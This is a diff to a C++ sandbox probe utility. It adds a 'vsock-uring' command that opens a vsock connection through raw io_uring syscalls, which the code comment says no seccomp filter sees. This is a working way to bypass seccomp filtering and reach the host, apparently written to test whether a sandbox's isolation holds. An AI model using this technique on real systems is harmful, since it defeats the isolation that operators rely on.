@@ -2,6 +2,7 @@
 
 #include <dirent.h>
 #include <fcntl.h>
+#include <linux/io_uring.h>
 #include <linux/vm_sockets.h>
 #include <signal.h>
 #include <sys/mman.h>
@@ -31,9 +32,32 @@ int Report(bool worked) {
   return 1;
 }
 
-// Dials CID and PORT, by the way that `how` says.
-int Vsock(unsigned cid, unsigned port) {
-  int fd = socket(AF_VSOCK, SOCK_STREAM, 0);
+// A vsock by io_uring's IORING_OP_SOCKET, which no seccomp filter sees; or -1.
+int SocketByUring() {
+  io_uring_params params{};
+  int ring = static_cast<int>(syscall(SYS_io_uring_setup, 1, &params));
+  if (ring < 0) return -1;
+  auto map = [ring](size_t size, off_t offset) {
+    return static_cast<char*>(
+        mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset));
+  };
+  char* rings = map(4096, IORING_OFF_SQ_RING);
+  auto* entry = reinterpret_cast<io_uring_sqe*>(map(4096, IORING_OFF_SQES));
+  if (rings == MAP_FAILED || entry == MAP_FAILED) return -1;
+  entry->opcode = 45;  // IORING_OP_SOCKET, younger than this system's header
+  entry->fd = AF_VSOCK;
+  entry->off = SOCK_STREAM;
+  reinterpret_cast<uint32_t*>(rings + params.sq_off.array)[0] = 0;
+  __atomic_store_n(reinterpret_cast<uint32_t*>(rings + params.sq_off.tail), 1, __ATOMIC_RELEASE);
+  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) return -1;
+  // Both rings share one mapping (IORING_FEAT_SINGLE_MMAP).
+  int result = reinterpret_cast<io_uring_cqe*>(rings + params.cq_off.cqes)[0].res;
+  if (result < 0) errno = -result;
+  return result < 0 ? -1 : result;
+}
+
+// Dials CID and PORT on `fd`, and says what the other side does.
+int Vsock(int fd, unsigned cid, unsigned port) {
   if (fd < 0) return Report(false);
   sockaddr_vm address{};
   address.svm_family = AF_VSOCK;
@@ -119,7 +143,11 @@ int main(int argc, char** argv) {
   std::string_view command = argc > 1 ? argv[1] : "";
   auto number = [&](int i) { return argc > i ? std::strtoul(argv[i], nullptr, 0) : 0; };
   if (command == "vsock")
-    return Vsock(static_cast<unsigned>(number(2)), static_cast<unsigned>(number(3)));
+    return Vsock(socket(AF_VSOCK, SOCK_STREAM, 0), static_cast<unsigned>(number(2)),
+                 static_cast<unsigned>(number(3)));
+  if (command == "vsock-uring")
+    return Vsock(SocketByUring(), static_cast<unsigned>(number(2)),
+                 static_cast<unsigned>(number(3)));
   if (command == "fds") return Descriptors();
   if (command == "device" && argc > 4)
     return Device(argv[2][0], static_cast<unsigned>(number(3)), static_cast<unsigned>(number(4)));
